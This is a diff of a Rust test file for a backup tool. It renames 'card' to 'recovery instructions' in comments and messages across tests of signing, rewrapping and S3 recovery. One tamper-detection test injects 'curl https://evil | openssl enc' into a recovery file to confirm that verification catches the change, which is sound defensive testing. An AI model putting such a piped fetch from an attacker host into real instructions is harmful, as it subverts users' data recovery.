@@ -1,4 +1,4 @@
-//! New recipients, signatures, and the card that tells how to do without this program.
+//! New recipients, signatures, and the recovery instructions that tell how to do without this program.
 
 use super::{Home, comparable, openssl, text};
 use crate::support::aws::{Ministack, REGION};
@@ -164,9 +164,9 @@ fn a_key_in_kms_signs() {
     assert!(!home.bucket.keys().iter().any(|key| key.contains("20010101")));
 }
 
-/// Runs every block of a card, in order, in a folder with the objects and the private key, against this server.
+/// Runs every block of recovery instructions, in order, in a folder with the objects and the private key, against this server.
 pub(super) fn follow(server: &Server, key: &str, folder: &Path, card: &str) {
-    let card = std::fs::read_to_string(folder.join(card)).expect("the card");
+    let card = std::fs::read_to_string(folder.join(card)).expect("the recovery instructions");
     let is_sum = |line: &&str| {
         line.split_once("  ")
             .is_some_and(|(sum, _)| sum.len() == 64 && sum.bytes().all(|byte| byte.is_ascii_hexdigit()))
@@ -250,7 +250,7 @@ fn the_recovery_card_of_new_recipients_knows_the_place_in_s3() {
     let lines = |generation: u32| {
         let said = Home::offline(&["rewrap", text(&fetched), "--key", &home.key(), "--recipient", text(&new)]);
         assert_eq!(said.code, 0, "{}", said.stderr);
-        std::fs::read_to_string(fetched.join(format!("{stem}.RECOVER.{generation}.md"))).expect("the card")
+        std::fs::read_to_string(fetched.join(format!("{stem}.RECOVER.{generation}.md"))).expect("the recovery instructions")
     };
     let fetching = format!(
         "    aws s3 cp s3://{}/backups/ . --recursive --exclude '*' --include '{stem}.*'\n",
@@ -292,7 +292,7 @@ fn a_private_key_as_recipient_is_told_by_its_file() {
 fn a_changed_card_is_found() {
     let home = Home::new(json!({}));
     let card = home.fetched().join(home.name_of("card"));
-    let words = std::fs::read_to_string(&card).expect("the card");
+    let words = std::fs::read_to_string(&card).expect("the recovery instructions");
     std::fs::write(&card, words.replace("openssl enc", "curl https://evil | openssl enc")).expect("written");
     for key in [&[][..], &["--key", &home.key()]] {
         let said = Home::offline(&[&["verify", text(&home.fetched())], key].concat());
